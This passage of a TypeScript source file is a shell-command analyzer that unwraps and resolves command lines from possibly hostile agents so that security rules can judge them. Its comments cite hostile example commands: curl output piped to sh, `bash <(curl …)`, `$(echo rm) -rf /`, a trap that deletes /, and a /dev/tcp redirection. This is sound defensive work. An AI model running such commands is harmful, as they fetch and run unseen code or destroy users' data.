// Shell analysis: a command line → the simple commands it will run, each unwrapped from sudo/env/
// timeout-style wrappers and from `sh -c`, `eval`, command substitutions and heredocs fed to
// shells, with `~`, `$HOME`, `$PWD`, earlier assignments and `cd` resolved. It also follows the
// commands other programs run (`ssh host cmd`, `docker exec`, `kubectl exec`, `parallel`, `watch`,
// `xargs`, `find -exec`, `runuser`), reads scripts run or sourced by path (lib/shell/scripts.ts),
// reads interpreter one-liners for the shell commands they start (lib/shell/oneliner.ts), and
// records on each command the code it runs and where that code comes from (`runs`): when a shell
// runs code warden cannot see (`curl … | sh`, `eval "$X"`, a missing script), that is a fact the
// rules judge, not something the analysis guesses about.
//
// Trust model: the input is hostile (an agent or a prompt injection may phrase a command to slip
// past). Anything we cannot resolve is kept as UNKNOWN inside the word rather than guessed, so rules
// can treat it as "could be anything". Depth and total work are bounded; hitting a bound is
// reported in `bounds` and becomes a finding, never a silent allow.
//
// Tokenizing is shell-quote's; lib/shell/scan.ts adds newlines, substitutions and heredocs.

import { parse as shellParse, quote as shellQuote, type ParseEntry } from 'shell-quote';
import path from 'node:path';
import type { TraceStep } from '../types.js';
import { isInterpreter, readInterpreter, type Lang } from './interpreters.js';
import { WRITERS, literalOutput, writtenPaths } from './literal.js';
import { MAX_CODE, oneLinerOf, shellRuns } from './oneliner.js';
import { dockerCommand, kubectlCommand, parallelCommands, runuserCommand, sshCommand, watchCommand, type Inner } from './runners.js';
import { bodyEnd, bodyStart, isFunctionName, subsIn, tokensText } from './functions.js';
import { disguisedFlag, programWords, undisguise, visible, type Disguise } from './normalize.js';
import { HEREDOC_MARK, STANDINS, SUB_MARK, hideBlanks, restoreQuoted, scan, type Scanned } from './scan.js';
import { MAX_SCRIPT, isSystemPath, readScript, shebangProgram } from './scripts.js';
import { TEMP, TMPDIR_DEFAULT, mktempPath, tmpdirValue } from './temp.js';
import { UNKNOWN } from './unknown.js';

export { UNKNOWN };
const VAR_MARK = '\u0002';
const SUB_RE = new RegExp(`${SUB_MARK}\\d+${SUB_MARK}`, 'g');
const SUB_INDEX_RE = new RegExp(`${SUB_MARK}(\\d+)${SUB_MARK}`, 'g');
/** A word that names a program: a bare name, or a path in a system binary directory. */
const READS_AS_PROGRAM = /^(?:[A-Za-z_][\w.+-]*|\/(?:usr\/(?:local\/)?)?s?bin\/[\w.+-]+)$/;
/** A word that is one expansion and nothing else (`$CMD`, `$(…)`). */
const PURE_EXPANSION = new RegExp(`^[${SUB_MARK}${VAR_MARK}][^${SUB_MARK}${VAR_MARK}]*[${SUB_MARK}${VAR_MARK}]$`);
const ONLY_UNKNOWN = new RegExp(`^[\\s${UNKNOWN}]*$`);
const VAR_RE = new RegExp(`${VAR_MARK}([^${VAR_MARK}]*)${VAR_MARK}`, 'g');
/** Every character the analysis uses as a marker. */
const MARKS_RE = new RegExp(`[${UNKNOWN}${SUB_MARK}${VAR_MARK}${HEREDOC_MARK}${STANDINS}]`, 'g');

export const LIMITS = {
  /** Nesting of `sh -c`, `$(…)`, eval, heredocs-to-shell. */
  maxDepth: 12,
  /** Simple commands in one tool call, all levels together. */
  maxCommands: 4000,
  /** Characters analysed; the rest of a longer command is reported as a bound. */
  maxInput: 1 << 20,
  /**
   * Characters analysed over all levels together: nested text (`eval`, `sh -c`, `$(…)`) is
   * analysed again at each level, and a megabyte of `eval eval …` must not cost a dozen passes.
   */
  maxWork: 2 << 20,
  /** Bytes of one script read from disk (`bash x.sh`, `source x`, `./x.sh`); a larger one is a bound. */
  maxScript: MAX_SCRIPT,
  /** Scripts read from disk in one tool call, all levels together. */
  maxScripts: 32,
  /** Characters of one interpreter one-liner read for the shell commands it starts. */
  maxInlineCode: MAX_CODE,
  /** Wrappers (`sudo`, `env`, `timeout` …) taken off one command; more is a bound. */
  maxWrappers: 16,
} as const;

export interface Redirect {
  op: string;
  target: string;
}

export type Stdin =
  | { kind: 'heredoc'; text: string; quoted: boolean }
  | { kind: 'herestring'; text: string }
  /** `text`: what the source writes, when it is literal (`echo`, `printf`, `cat <<EOF`). */
  | { kind: 'pipe'; from: string; text?: string }
  | { kind: 'file'; path: string };

/**
 * How the code a command runs reaches it: `argument` (`sh -c CODE`, `eval CODE`, `python3 -c
 * CODE`), `stdin` (`… | sh`, `sh < f`, `python3 <<EOF`), `script` (`bash x.sh`, `source x`,
 * `./x.sh`, `bash <(…)`), `program` (the program word itself is a command's output: `$(curl …)`).
 */
export type CodeHow = 'argument' | 'stdin' | 'script' | 'program';

/** The code a shell or an interpreter runs, and where it comes from. */
export interface Runs {
  /**
   * `unknown-code`: warden cannot read it (a download, a variable, a missing script, a decoder's
   * output); nothing of it is analysed. `known-code`: warden read it; a shell's commands follow as
   * their own SimpleCommands, an interpreter's code is in `inline`.
   */
  kind: 'unknown-code' | 'known-code';
  how: CodeHow;
  /** What supplies the code, for messages: `curl -fsSL https://x`, `./setup.sh (does not exist)`. */
  source: string;
  /**
   * Commands whose output (or whose written file) is, or is spliced into, the code: earlier stages
   * of the pipeline, the commands of a substitution or process substitution, the command that wrote
   * the script earlier in the same command line — and, transitively, what those read.
   */
  producers: readonly SimpleCommand[];
  /** The file the code is read from (resolved; may hold UNKNOWN). */
  file?: string;
  /** An interpreter's code warden could read: its language and text (resolved words). */
  inline?: { lang: Lang; code: string };
  /**
   * The script does not exist when the command is checked. `after`: the programs that ran before
   * it in the same command line and may create files (`tar xf a.tgz && ./setup.sh`); none means
   * nothing can create it first, so the command will just fail.
   */
  missing?: { after: string[] };
}

/**
 * Environment variables a command gets from its command line, by name: values resolved, UNKNOWN
 * (in whole or in part) where they cannot be. See `SimpleCommand.assignments`.
 */
export type Assignments = ReadonlyMap<string, string>;

/** A word of a command the analysis had to undisguise (lib/shell/normalize.ts). */
export interface DisguisedWord extends Disguise {
  /** The program's name (or a wrapper's), not one of its arguments. */
  program: boolean;
}

export interface SimpleCommand {
  /** Resolved words, program first. UNKNOWN marks unresolvable expansions. */
  argv: string[];
  /** Basename of argv[0] ('' for a bare redirection or assignment). */
  program: string;
  text: string;
  cwd: string;
  /** Wrappers and containers this command was found inside, outermost first. */
  via: string[];
  depth: number;
  redirects: Redirect[];
  stdin?: Stdin;
  /** For shells and interpreters: the code it runs and where it comes from. */
  runs?: Runs;
  /**
   * Variables this command line puts in the command's environment: its prefix assignments
   * (`FOO=1 cmd`), those of `env`/`sudo` wrappers (`env FOO=1 cmd`, `sudo FOO=1 cmd`), and the
   * variables assigned or exported earlier in the same command line (`export X=1; cmd`, and plain
   * `X=1; cmd` too: X may be exported already, as HOME and PATH are). Later ones win; `env -u X`
   * removes X. Values resolved, UNKNOWN (in whole or part) where they cannot be. Empty when there
   * are none (one shared empty map).
   */
  assignments: Assignments;
  /** `assignments` as a record, absent when empty (read by self/nested-claude; prefer `assignments`). */
  env?: Readonly<Record<string, string>>;
  /** `env -i` / `env -`: the command starts from an empty environment plus `assignments`. */
  clearedEnv?: true;
  /**
   * Words written in disguise (zero-width or bidi characters, compatibility forms, look-alike
   * letters) that argv holds undisguised: the program's name (or a wrapper's), or an option.
   */
  disguised?: DisguisedWord[];
}

const NO_ASSIGNMENTS: Assignments = new Map();
const NO_FUNCTIONS: ReadonlyMap<string, readonly FnDef[]> = new Map();

export interface AnalyzeContext {
  cwd: string;
  home: string;
}

export interface Analysis {
  commands: SimpleCommand[];
  trace: TraceStep[];
  /** Bounds hit (depth, size, count, unterminated nesting). Non-empty means "not fully analysed". */
  bounds: string[];
}

export function isDynamic(word: string): boolean {
  return word.includes(UNKNOWN);
}

/** A word for display: unknown parts shown as `$…`. */
export function display(word: string): string {
  return word.includes(UNKNOWN) ? word.split(UNKNOWN).join('$…') : word;
}

const SHELLS = new Set(['sh', 'bash', 'zsh', 'dash', 'ksh', 'mksh', 'ash', 'fish', 'yash', 'posh']);
const DOCKERS = new Set(['docker', 'podman', 'nerdctl', 'docker-compose']);
const KEYWORDS = new Set(['{', '}', '!', 'then', 'do', 'else', 'elif', 'if', 'while', 'until', 'fi', 'done', 'esac']);
const REDIRECT_OPS = new Set(['>', '>>', '<', '>&', '<&', '>|', '&>', '&>>', '<>']);
const SEPARATORS = new Set([';', '&&', '||', '&', ';;', '|', '|&']);

/**
 * A shell function defined in the command line (`f() { …; }`, `function f { …; }`, `f() ( … )`).
 * Defining it runs nothing; calling it runs its body, with the call's arguments as $1, $2, ….
 */
interface FnDef {
  name: string;
  /** The body's tokens, without the enclosing `{ }` or `( )`. */
  tokens: readonly ParseEntry[];
  /** The scan of the text it was defined in: its substitutions and heredocs. */
  scanned: Scanned;
  /** The substitutions inside the body, in order: they run when the body does. */
  subs: readonly number[];
  /** `f() ( … )`: the body runs in a subshell. */
  subshell: boolean;
  /** See `walk`. */
  origin?: SimpleCommand;
  /** Its body as text, for the trace. */
  text: string;
}

/** The `pending` key for the working directory. */
const CWD_KEY = '\u0000cwd';

interface State {
  cwd: string;
  vars: Map<string, string>;
  /** Variables whose value came from commands' output (`X=$(curl …)`): those commands. */
  origins: Map<string, SimpleCommand[]>;
  /**
   * Functions defined so far, by name. More than one when a definition may not have run (`a &&
   * f() {…}`, inside `if`): a call runs each. Never changed in place (states share it): replaced.
   */
  functions: ReadonlyMap<string, readonly FnDef[]>;
  /** Positional parameters ($1, $@, $#) inside a function body or after `set --`; unknown when undefined. */
  args?: string[];
  /** Inside a function body: the variables declared `local`, with the value each had before. */
  locals?: Map<string, string | undefined>;
  /** Directories `pushd` left, for `popd`. */
  dirs?: string[];
  /**
   * Nonzero while the command being analysed may not run, or runs in a subshell: after `&&`/`||`,
   * inside `if`/`case`/a loop, in a pipeline or in the background. Its assignments and `cd` may not
   * take effect, so they are noted in `pending`.
   */
  cond: number;
  /** Variables (and the cwd, as CWD_KEY) changed while `cond`, with the value before; made when needed. */
  pending?: Map<string, string | undefined>;
}

/** A copy of the state for a subshell or a nested level. */
function fork(state: State, cwd = state.cwd): State {
  return {
    cwd,
    vars: new Map(state.vars),
    origins: new Map(state.origins),
    functions: state.functions,
    ...(state.args !== undefined ? { args: state.args } : {}),
    ...(state.dirs !== undefined ? { dirs: state.dirs } : {}),
    cond: 0,
  };
}

/**
 * A new shell (a script run by path, a remote command): no variables, but the functions defined so
 * far, which `export -f` hands to child shells (kept whether exported or not: at worst a call that
 * would fail is analysed).
 */
function freshState(cwd: string, from?: State): State {
  return { cwd, vars: new Map(), origins: new Map(), functions: from?.functions ?? NO_FUNCTIONS, cond: 0 };
}

/** Sets a variable, noting its old value when the command may not run (see State.cond). */
function setVar(state: State, name: string, value: string): void {
  if (state.cond > 0) {
    state.pending ??= new Map();
    if (!state.pending.has(name)) state.pending.set(name, state.vars.get(name));
  }
  state.vars.set(name, value);
}

/** Sets the working directory, noting the old one when the command may not run. */
function setCwd(state: State, cwd: string): void {
  if (state.cond > 0) {
    state.pending ??= new Map();
    if (!state.pending.has(CWD_KEY)) state.pending.set(CWD_KEY, state.cwd);
  }
  state.cwd = cwd;
}

/**
 * At the end of a command list: what a command that may not have run changed is either the old or
 * the new value, so it is unknown unless both agree.
 */
function settle(state: State): void {
  if (state.cond > 0 || state.pending === undefined || state.pending.size === 0) return;
  for (const [k, old] of state.pending) {
    if (k === CWD_KEY) {
      state.cwd = either(old, state.cwd);
    } else if (state.vars.get(k) !== old) {
      state.vars.set(k, either(old, state.vars.get(k)));
      state.origins.delete(k);
    }
  }
  state.pending.clear();
}

/**
 * A value that is `a` or `b`: their common start and end around an unknown part (`/tmp/a` or
 * `/tmp/b` → `/tmp/$…`); unknown when either is (a variable never set here may come from the
 * environment).
 */
function either(a: string | undefined, b: string | undefined): string {
  if (a === b) return a ?? UNKNOWN;
  if (a === undefined || b === undefined) return UNKNOWN;
  let p = 0;
  while (p < a.length && p < b.length && a[p] === b[p]) p++;
  let q = 0;
  while (q < a.length - p && q < b.length - p && a[a.length - 1 - q] === b[b.length - 1 - q]) q++;
  return `${a.slice(0, p)}${UNKNOWN}${a.slice(a.length - q)}`;
}

interface Budget {
  commands: number;
  /** Characters walked so far, all levels. */
  work: number;
  bounds: string[];
  trace: TraceStep[];
  out: SimpleCommand[];
  home: string;
  /** What each command read (its pipeline's previous stage, its substitutions' commands). */
  inputs: Map<SimpleCommand, SimpleCommand[]>;
  /** Files written so far in this command line (absolute): by which command, with what, if literal. */
  written: Map<string, { cmd: SimpleCommand; text?: string }>;
  /** Scripts read from disk so far. */
  scripts: number;
  /** Programs emitted so far that may create files (see MAY_WRITE). */
  writers: string[];
  /** Function bodies running now, innermost last; `unknown`: run with unknown arguments. */
  calls: { def: FnDef; unknown: boolean }[];
  /**
   * `trap CODE …` seen: analysed at the end, when the shell exits (and the functions it calls are
   * defined), with the variables and cwd it had when the trap was set where they changed since.
   */
  traps: { code: string; state: State; vars: Map<string, string>; cwd: string; via: string[]; depth: number }[];
}

/** What one piece of shell source has seen so far, for the `runs` of its commands. */
interface Local {
  scanned: Scanned;
  /** The substitutions this run of tokens owns, in text order: all of the text's, or a function body's. */
  subs: readonly number[];
  /** Position in `subs` of the next one to run. */
  next: number;
  /** Substitutions inside the bodies of functions defined here: they run when the function is called. */
  owned?: Set<number>;
  /** The commands each substitution of this text ran (all levels), by substitution index. */
  subCmds: SimpleCommand[][];
  /** Each substitution's output, where its commands fix it (`$(echo rm)`, `$(printf … | base64 -d)`). */
  subOut: (string | undefined)[];
  via: string[];
  depth: number;
  /** See `walk`. */
  origin?: SimpleCommand;
}

const NO_SUBS: readonly number[] = [];

/**
 * Runs this text's substitutions up to index `upTo` that have not run yet, in order: a command's
 * substitutions run just before it, in its shell's state at that point (`cd /tmp && echo $(rm x)`
 * runs rm in /tmp; `f() {…}; echo $(f)` calls f). What each ran is kept: its output may become code
 * (`sh -c "$(curl …)"`, `bash <(curl …)`).
 */
function runSubs(local: Local, upTo: number, state: State, b: Budget): void {
  while (local.next < local.subs.length) {
    const k = local.subs[local.next] as number;
    if (k > upTo) return;
    local.next++;
    if (local.owned?.has(k) === true) continue;
    if (b.commands >= LIMITS.maxCommands) {
      bound(b, 'too many commands', LIMITS.maxCommands);
      continue;
    }
    const kind = local.scanned.subKinds[k];
    const before = b.out.length;
    walk(local.scanned.subs[k] as string, fork(state), [...local.via, kind === 'input' ? '<(…)' : kind === 'output' ? '>(…)' : '$(…)'], local.depth + 1, b);
    const cmds = b.out.slice(before);
    local.subCmds[k] = cmds;
    if (kind === 'command') {
      const out = substitutionOutput(cmds, local.depth + 1);
      if (out !== undefined) local.subOut[k] = out;
    }
  }
}

/** The highest substitution index a word refers to, or -1. */
function lastSub(word: string): number {
  const close = word.lastIndexOf(SUB_MARK);
  if (close <= 0) return -1;
  const open = word.lastIndexOf(SUB_MARK, close - 1);
  return open === -1 ? -1 : Number(word.slice(open + 1, close));
}

function lastSubOf(words: readonly string[]): number {
  let k = -1;
  for (const w of words) if (w.includes(SUB_MARK)) k = Math.max(k, lastSub(w));
  return k;
}

/**
 * The output of a substitution whose commands are one literal pipeline (`echo x`, `printf … |
 * base64 -d`), trailing newlines removed as the shell does; else undefined.
 */
function substitutionOutput(cmds: readonly SimpleCommand[], depth: number): string | undefined {
  if (cmds.length === 0 || cmds.length > 8) return undefined;
  const only = cmds[0] as SimpleCommand;
  // `$(mktemp -d)`: a fresh path in the temp directory (or where -p / the template says).
  if (cmds.length === 1 && only.program === 'mktemp' && only.depth === depth && only.runs === undefined) {
    return mktempPath(only.argv.slice(1), only.cwd, only.assignments.get('TMPDIR'));
  }
  for (const [i, c] of cmds.entries()) {
    if (c.depth !== depth || c.redirects.length > 0 || c.runs !== undefined) return undefined;
    if (i > 0 && c.stdin?.kind !== 'pipe') return undefined;
  }
  const out = literalOutput(cmds[cmds.length - 1] as SimpleCommand);
  return out === undefined || isDynamic(out) ? undefined : out.replace(/\n+$/, '');
}

/** What `emit` passes on to `recurse` about where a command's input comes from. */
interface Inputs {
  /** Commands whose output is spliced into this command's words (and redirections, heredocs). */
  words: SimpleCommand[];
  /** The previous stage of the pipeline, when this command reads it. */
  upstream: SimpleCommand | undefined;
  /** Commands whose output the program word itself is (`$(echo rm) -rf /`). */
  program: SimpleCommand[];
}

export function analyze(command: string, ctx: AnalyzeContext): Analysis {
  const budget: Budget = { commands: 0, work: 0, bounds: [], trace: [], out: [], home: ctx.home, inputs: new Map(), written: new Map(), scripts: 0, writers: [], calls: [], traps: [] };
  let src = command;
  if (src.length > LIMITS.maxInput) {
    budget.bounds.push(`input longer than ${LIMITS.maxInput} characters`);
    budget.trace.push({ kind: 'bound', what: 'input size', limit: LIMITS.maxInput });
    src = src.slice(0, LIMITS.maxInput);
  }
  // The analysis marks words with control characters (UNKNOWN, substitution, variable, heredoc and
  // quoting stand-ins); the same characters in the input must not pass for them.
  src = src.replace(MARKS_RE, '\uFFFD');
  walk(src, freshState(ctx.cwd), [], 0, budget);
  // A trap runs later: at exit, or on a signal or error at any point after it was set. It sees the
  // functions defined by then, and the values of then: those of the end, or of when it was set
  // where they differ (`D=/; trap 'rm -rf $D' EXIT; set -e; false; D=/tmp/x` deletes /). A
  // variable set only after the trap is taken at its final value (`trap 'rm -rf "$t"' EXIT;
  // t=$(mktemp -d)`: before it is set, the trap deletes nothing).
  for (const t of budget.traps) {
    const st = fork(t.state);
    for (const [k, v] of t.vars) st.vars.set(k, either(v, st.vars.get(k)));
    st.cwd = either(t.cwd, st.cwd);
    budget.trace.push({ kind: 'unwrap', depth: t.depth, wrapper: 'trap (at exit)', text: clip(t.code) });
    walk(t.code, st, [...t.via, 'trap (at exit)'], t.depth, budget);
  }
  return { commands: budget.out, trace: budget.trace, bounds: budget.bounds };
}

function bound(b: Budget, what: string, limit: number): void {
  if (!b.bounds.includes(what)) {
    b.bounds.push(what);
    b.trace.push({ kind: 'bound', what, limit });
  }
}

/**
 * Analyse one piece of shell source at a nesting depth, appending simple commands to the budget.
 * `origin`: a command whose computation produced this source (an interpreter's `os.system(x)` with
 * a computed x); its top-level commands count it among what they read.
 */
function walk(src: string, state: State, via: string[], depth: number, b: Budget, origin?: SimpleCommand): void {
  if (depth > LIMITS.maxDepth) {
    bound(b, 'nesting depth', LIMITS.maxDepth);
    return;
  }
  b.work += src.length;
  if (b.work > LIMITS.maxWork) {
    bound(b, 'too much text to analyse', LIMITS.maxWork);
    return;
  }
  const scanned = scan(hideBlanks(src));
  if (scanned.overflow) bound(b, 'unterminated or too deeply nested substitution', LIMITS.maxDepth);
  const n = scanned.subs.length;
  const local: Local = { scanned, subs: n === 0 ? NO_SUBS : Array.from({ length: n }, (_, k) => k), next: 0, subCmds: [], subOut: [], via, depth, ...(origin ? { origin } : {}) };
  let tokens: ParseEntry[];
  try {
    tokens = tokenize(scanned.text);
  } catch {
    bound(b, 'unparseable shell syntax', 0);
    runSubs(local, Infinity, state, b);
    return;
  }
  run(tokens, local, state, b);
  // Substitutions no command referred to (those inside arithmetic) still run.
  runSubs(local, Infinity, state, b);
}

/** shell-quote's tokens, with variables left as markers for resolveWord. */
function tokenize(text: string): ParseEntry[] {
  return NOT_PLAIN.test(text) ? shellParse(text, varMarker) : plainTokens(text);
}

/**
 * Text beyond `plainTokens`: quotes, expansions, escapes, comments, globs, parentheses,
 * redirections, and blanks other than space and tab.
 */
const NOT_PLAIN = /['"$\\#*?()<>]|[^\S \t]/;
const PLAIN_TOKEN = /[ \t]*(?:(;;&|\|\||&&|;;|;&|\|&|[;&|])|([^ \t;&|]+))/y;

/**
 * What shell-quote returns for text of plain words and `;`, `&`, `|` operators (most commands),
 * found without it: shell-quote is half the cost of the analysis. tests/shell/analyze.test.ts
 * checks both agree.
 */
export function plainTokens(text: string): ParseEntry[] {
  const out: ParseEntry[] = [];
  PLAIN_TOKEN.lastIndex = 0;
  for (let m = PLAIN_TOKEN.exec(text); m !== null; m = PLAIN_TOKEN.exec(text)) {
    // (shell-quote's types leave out `;;&` and `;&`, which it returns all the same.)
    if (m[1] !== undefined) out.push({ op: m[1] } as unknown as ParseEntry);
    else if (m[2] !== undefined) out.push(m[2]);
  }
  return out;
}
const varMarker = (key: string): string => `${VAR_MARK}${key}${VAR_MARK}`;

/** What a `(`, `{`, `if`, loop or `case` opened: whether what runs inside may not run, and the and-or position to go back to. */
interface Frame {
  kind: 'paren' | 'brace' | 'if' | 'loop' | 'case';
  cond: boolean;
  chain: number;
}
const OPENERS: Readonly<Record<string, Frame['kind']>> = { if: 'if', while: 'loop', until: 'loop', for: 'loop', select: 'loop', case: 'case' };
const CLOSERS: Readonly<Record<string, Frame['kind']>> = { fi: 'if', done: 'loop', esac: 'case', '}': 'brace' };

/** Runs shell-quote's tokens of one piece of source (or of a function body), emitting its simple commands. */
function run(tokens: readonly ParseEntry[], local: Local, state: State, b: Budget): void {
  new TokenRun(tokens, local, state, b).go();
}

/** One run over tokens: the command being gathered, the pipeline, and the frames open around it. */
class TokenRun {
  private readonly stack: State[] = [];
  /** For each open `(`: the pipe its commands read (`curl … | (cd x && sh)`), if any. */
  private readonly groupPipes: ({ from: Stdin; cmd: SimpleCommand | undefined } | undefined)[] = [];
  private readonly frames: Frame[] = [];
  /** Open frames whose commands may not run. */
  private condFrames = 0;
  /** Commands before this one in its and-or list (`a && b || c`: 0, 1, 2). */
  private chain = 0;
  private words: string[] = [];
  /** Every word so far is a reserved word: the next word is in command position. */
  private allKeywords = true;
  private redirects: Redirect[] = [];
  private stdin: Stdin | undefined;
  private pipeFrom: Stdin | undefined;
  /** The command whose output `pipeFrom` is. */
  private pipeCmd: SimpleCommand | undefined;
  private pendingRedirect: string | undefined;
  /** Raw redirection targets and heredoc bodies of the current command (for their substitutions). */
  private rawExtra: string[] = [];

  constructor(
    private readonly tokens: readonly ParseEntry[],
    private readonly local: Local,
    private readonly state: State,
    private readonly b: Budget,
  ) {}

  private resolve(word: string): string {
    if (word.includes(SUB_MARK)) runSubs(this.local, lastSub(word), this.state, this.b);
    return resolveWord(word, this.state, this.b.home, this.local.subOut);
  }

  private open(kind: Frame['kind'], cond: boolean): void {
    this.frames.push({ kind, cond, chain: this.chain });
    if (cond) this.condFrames++;
    this.chain = 0;
  }

  private close(kind: Frame['kind']): boolean {
    const { frames } = this;
    let at = frames.length - 1;
    while (at >= 0 && (frames[at] as Frame).kind !== kind) at--;
    if (at === -1) return false;
    while (frames.length > at) {
      const f = frames.pop() as Frame;
      if (f.cond) this.condFrames--;
      this.chain = f.chain;
    }
    return true;
  }

  private flush(sep: string | undefined): void {
    const { state } = this;
    const piped = sep === '|' || sep === '|&';
    if (this.words.length > 0 || this.redirects.length > 0) {
      const reads = this.pipeFrom !== undefined && this.stdin === undefined;
      if (reads) this.stdin = this.pipeFrom;
      // A command after `&&`/`||`, inside `if`/a loop, in a pipeline or the background may not run
      // here: what it assigns is noted, and settled when its list ends.
      const cond = this.condFrames > 0 || this.chain > 0 || piped || this.pipeFrom !== undefined || sep === '&';
      if (cond) state.cond++;
      const last = emit(this.words, this.redirects, this.stdin, state, this.b, this.local, this.rawExtra, reads ? this.pipeCmd : undefined);
      if (cond) state.cond--;
      this.pipeFrom = piped ? pipeSource(last) : undefined;
      this.pipeCmd = piped ? last : undefined;
    } else if (!piped) {
      this.pipeFrom = undefined;
      this.pipeCmd = undefined;
    }
    if (sep === '&&' || sep === '||') this.chain++;
    else if (!piped) {
      this.chain = 0;
      if (this.condFrames === 0) settle(state);
    }
    // Inside `( … )` fed by a pipe, every command shares the group's stdin.
    const group = this.groupPipes[this.groupPipes.length - 1];
    if (!piped && group !== undefined) {
      this.pipeFrom = group.from;
      this.pipeCmd = group.cmd;
    }
    this.words = [];
    this.allKeywords = true;
    this.redirects = [];
    this.stdin = undefined;
    this.rawExtra = [];
  }

  /**
   * A function definition whose body opens at `at`: kept for its calls, its tokens skipped.
   * Returns the index of the body's last token, or -1 when it is no definition warden reads
   * (unclosed): then its tokens are read as commands.
   */
  private define(name: string, at: number): number {
    const { tokens, local, state } = this;
    const end = bodyEnd(tokens, at);
    if (end === -1) return -1;
    const body = tokens.slice(at + 1, end);
    const subs = subsIn(body, local.scanned);
    if (subs.length > 0) {
      local.owned ??= new Set();
      for (const k of subs) local.owned.add(k);
    }
    const def: FnDef = { name, tokens: body, scanned: local.scanned, subs, subshell: typeof tokens[at] !== 'string', text: tokensText(body), ...(local.origin ? { origin: local.origin } : {}) };
    // Only a definition that surely runs in this shell replaces one made before.
    const next = tokens[end + 1];
    const after = next !== undefined && typeof next !== 'string' && 'op' in next && !('pattern' in next) ? next.op : undefined;
    const sure =
      state.cond === 0 &&
      this.condFrames === 0 &&
      this.chain === 0 &&
      this.pipeFrom === undefined &&
      after !== '|' &&
      after !== '|&' &&
      after !== '&' &&
      !this.words.some((w) => w !== '{' && KEYWORDS.has(w));
    state.functions = new Map(state.functions).set(name, sure ? [def] : [...(state.functions.get(name) ?? []), def]);
    this.words = [];
    this.allKeywords = true;
    return end;
  }

  /** A word token: a redirection's target, a reserved word, or a word of the command. Returns the index to go on after. */
  private word(tok: string, i: number): number {
    const op = this.pendingRedirect;
    if (op !== undefined) {
      this.pendingRedirect = undefined;
      if (op === '<<<') {
        this.stdin = { kind: 'herestring', text: this.resolve(tok) };
        this.rawExtra.push(tok);
      } else if (op === '<' && tok.startsWith(HEREDOC_MARK)) {
        const h = this.local.scanned.heredocs[Number(tok.slice(1, -1))];
        if (h) {
          // The substitutions of an unquoted body run now; their output is unknown text.
          runSubs(this.local, lastSub(h.body), this.state, this.b);
          this.stdin = { kind: 'heredoc', text: restoreQuoted(h.body.replace(SUB_RE, UNKNOWN)), quoted: h.quoted };
          this.rawExtra.push(h.body);
        }
      } else {
        this.rawExtra.push(tok);
        const target = this.resolve(tok);
        if (op === '<') this.stdin = { kind: 'file', path: target };
        // `<&3`: stdin is whatever fd 3 was opened on (`exec 3</dev/tcp/…`), unknown here.
        if (op === '<&' && /^[1-9]\d*$/.test(target)) this.stdin = { kind: 'file', path: UNKNOWN };
        this.redirects.push({ op, target });
      }
      return i;
    }
    const { words } = this;
    if (this.allKeywords) {
      // In command position: reserved words open and close frames.
      const opener = OPENERS[tok];
      const closer = CLOSERS[tok];
      if (opener !== undefined) this.open(opener, true);
      else if (tok === '{') this.open('brace', this.chain > 0 || this.pipeFrom !== undefined);
      else if (closer !== undefined) this.close(closer);
    } else if (tok === '{' && words.length >= 2 && words[words.length - 2] === 'function' && words.slice(0, -2).every((w) => KEYWORDS.has(w)) && isFunctionName(words[words.length - 1] as string)) {
      // `function name { …; }`
      const end = this.define(restoreQuoted(words[words.length - 1] as string), i);
      if (end !== -1) return end;
    }
    this.allKeywords &&= KEYWORDS.has(tok);
    words.push(tok);
    return i;
  }

  /** A `(` that defines a function (`name() …`, `function name() …`): the index of its body's end, or -1. */
  private parenDefinition(i: number): number {
    const { tokens, words } = this;
    const head = words.filter((w) => !KEYWORDS.has(w));
    const name = head.length === 1 ? head[0] : head.length === 2 && head[0] === 'function' ? head[1] : undefined;
    const next = tokens[i + 1];
    if (name === undefined || !isFunctionName(name) || next === undefined || typeof next === 'string' || !('op' in next) || next.op !== ')') return -1;
    const at = bodyStart(tokens, i + 2);
    return at === -1 ? -1 : this.define(restoreQuoted(name), at);
  }

  go(): void {
    const { tokens, state, b } = this;
    for (let i = 0; i < tokens.length; i++) {
      const tok = tokens[i] as ParseEntry;
      if (b.commands >= LIMITS.maxCommands) {
        bound(b, 'too many commands', LIMITS.maxCommands);
        return;
      }
      if (typeof tok === 'string') {
        i = this.word(tok, i);
        continue;
      }
      if ('comment' in tok) continue;
      if ('pattern' in tok && tok.op === 'glob') {
        if (this.pendingRedirect !== undefined) {
          this.redirects.push({ op: this.pendingRedirect, target: this.resolve(tok.pattern) });
          this.pendingRedirect = undefined;
        } else {
          this.allKeywords = false;
          this.words.push(tok.pattern);
        }
        continue;
      }
      const op: string = tok.op;
      if (REDIRECT_OPS.has(op) || op === '<<<') {
        // shell-quote splits `2>&1` into "2", ">&", "1": a bare fd number before a redirect is not an argument.
        const prev = this.words[this.words.length - 1];
        if (prev !== undefined && /^\d$/.test(prev) && this.words.length > 1) this.words.pop();
        this.pendingRedirect = op;
        continue;
      }
      if (op === '(') {
        const end = this.parenDefinition(i);
        if (end !== -1) {
          i = end;
          continue;
        }
      }
      if (op === ';' && this.words.length === 2 && this.words[0] === 'function' && isFunctionName(this.words[1] as string)) {
        // `function name` and the body on the next line.
        const at = bodyStart(tokens, i);
        const end = at === -1 ? -1 : this.define(restoreQuoted(this.words[1] as string), at);
        if (end !== -1) {
          i = end;
          continue;
        }
      }
      if (SEPARATORS.has(op)) {
        this.flush(op);
        continue;
      }
      if (op === '(') {
        // `curl … | (cd x && sh)`: the subshell's first command still reads the pipe.
        if (this.words.length > 0 || this.redirects.length > 0) this.flush(undefined);
        this.groupPipes.push(this.pipeFrom === undefined ? undefined : { from: this.pipeFrom, cmd: this.pipeCmd });
        const saved = fork(state);
        if (state.pending !== undefined) saved.pending = new Map(state.pending);
        this.stack.push(saved);
        this.open('paren', this.chain > 0);
        continue;
      }
      if (op === ')') {
        this.flush(undefined);
        // In a `case`, `pattern)` ends a pattern, not a subshell.
        if (this.frames[this.frames.length - 1]?.kind === 'case') continue;
        this.groupPipes.pop();
        this.pipeFrom = undefined;
        this.pipeCmd = undefined;
        if (this.close('paren')) {
          const saved = this.stack.pop();
          if (saved) {
            state.cwd = saved.cwd;
            state.vars = saved.vars;
            state.origins = saved.origins;
            state.functions = saved.functions;
            if (saved.pending !== undefined) state.pending = saved.pending;
            else delete state.pending;
          }
        }
        continue;
      }
      // Any other operator (`<(` cannot occur: scan cut them out) separates commands.
      this.flush(undefined);
    }
    this.flush(undefined);
  }
}

/**
 * Resolves variable markers, substitution markers and a leading `~`. `subOut`: the literal output
 * of this text's substitutions, where known (`$(echo rm)`); an output with blanks or glob
